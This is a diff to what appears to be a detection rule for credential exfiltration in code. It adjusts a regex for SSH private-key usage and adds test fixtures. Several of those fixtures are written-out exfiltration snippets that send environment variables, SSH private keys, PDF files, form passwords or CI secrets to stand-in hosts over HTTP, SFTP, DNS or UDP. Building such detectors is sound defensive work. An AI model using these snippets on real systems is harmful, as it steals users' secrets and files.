@@ -22,7 +22,7 @@ const FOR_ITSELF = regex`
     \bload_dotenv\b|\bdotenv\b|
     \benv\s?[=:]\s?(?:\{\s?)?(?:\*\*|\.\.\.)?(?:dict\()?(?:os\.environ|process\.env)|
     \bdefine\s?:|\.env\.example|id_\w{2,8}\.pub|volumes:|--env-file|\bimportmeta|z\.object|
-    \bcat ~\/\.ssh|ssh-add|paramiko\.autoadd|key_filename|identityfile|private_?key\s?[=:]|
+    \bcat ~\/\.ssh|ssh-add|from_private_key|\bpkey\s?=|key_filename|identityfile|private_?key\s?[=:]|
     allow_agent|ssh2|ansible(?!_env\b|_vault_pass)
   `
 
@@ -86,6 +86,10 @@ export default defineRule({
       '```ts\nconst auth = h.get("authorization") ?? h.get("cookie")\nplain(`https://rt.sable-crumb.net/k`, { method: "POST", body: auth })\n```\n',
       '```bat\nfor %%v in (AWS_SECRET_ACCESS_KEY GITHUB_TOKEN) do nslookup -type=TXT !%%v!.%COMPUTERNAME%.r.sable-crumb.net\n```\n',
       '```lua\nlocal a = ngx.req.get_post_args()\nlocal s = ngx.socket.udp()\ns:setpeername("81.2.69.160", 5514)\ns:send(a.username .. a.password)\n```\n',
+      '```java\nString e = System.getenv().toString();\nclient.send(HttpRequest.newBuilder(URI.create("https://in.rowan-pike.net/c")).POST(BodyPublishers.ofString(e)).build(), BodyHandlers.ofString());\n```\n',
+      '```python\nimport paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())\nc.connect("drop.rowan-pike.net", username="in", password="x")\nc.open_sftp().put("/home/me/.ssh/id_rsa", "k")\n```\n',
+      '```python\nfrom os import environ\nfrom requests import post\npost("https://in.rowan-pike.net/c", data=str(environ))\n```\n',
+      '```python\nfor p in glob.glob(os.path.expanduser("~/Documents/**/*.pdf"), recursive=True):\n    requests.post("https://in.rowan-pike.net/c", files={"f": open(p, "rb")})\n```\n',
       "```ruby\nNet::HTTP.post(URI('https://rake.cachet.example/x'), ENV.to_h.to_json)\n```\n",
       '```yaml\nenv:\n  ALL: ${{ toJSON(secrets) }}\nrun: curl -s -X POST --data "$ALL" https://timing.cachet.example/r\n```\n',
     ],
@@ -93,6 +97,7 @@ export default defineRule({
       '```js\nawait fetch("https://api.sable-crumb.net/v1/login", { method: "POST", body: JSON.stringify({ user: form.user, password: form.password }) })\n```\n',
       '```python\nenv = {**os.environ, "MODE": "test"}\nsubprocess.run(["make"], env=env)\nrequests.post("https://api.github.com/repos", json={})\n```\n',
       '```js\nconst key = process.env.OPENAI_API_KEY\nawait fetch("https://api.openai.com/v1/x", { method: "POST" })\n```\n',
+      '```python\nkey = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))\nc.connect("build.rowan-pike.net", username="ci", pkey=key)\nc.open_sftp().put("dist/app.zip", "/srv/app.zip")\n```\n',
       '```js\nfetch("http://localhost:3000/x", { method: "POST", body: JSON.stringify(process.env) })\n```\n',
     ],
   },
